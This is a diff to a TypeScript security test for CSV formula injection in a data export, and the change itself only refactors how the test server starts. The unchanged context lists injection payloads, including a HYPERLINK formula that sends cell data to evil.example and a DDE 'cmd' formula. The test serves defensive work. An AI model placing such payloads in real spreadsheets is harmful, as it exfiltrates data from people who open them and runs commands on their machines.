@@ -11,7 +11,7 @@ import { parse } from 'csv-parse/sync';
 import { describeEngines } from '../engines.ts';
 import { cli } from '../cli.ts';
 import { makeOrg, type OrgFixture } from '../fixtures.ts';
-import { buildApp } from '../../src/server/app.ts';
+import { listen } from './public-server.ts';
 
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "-2+3+cmd|' /C calc'!A0", '+SUM(1,1)', '@SUM(A1)'];
 // Stored text that itself begins with a quote and a formula character (only the API can store it: the
@@ -25,10 +25,7 @@ describeEngines('attack: CSV formula injection through the export', (ctx) => {
   const dir = mkdtempSync(join(tmpdir(), 'parallax-csv-injection-'));
   beforeAll(async () => {
     f = await makeOrg(ctx());
-    app = await buildApp({ store: ctx() });
-    await app.listen({ port: 0, host: '127.0.0.1' });
-    const addr = app.server.address();
-    base = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
+    ({ app, base } = await listen(ctx(), { rateLimits: {} }));
   });
   afterAll(async () => {
     await app.close();
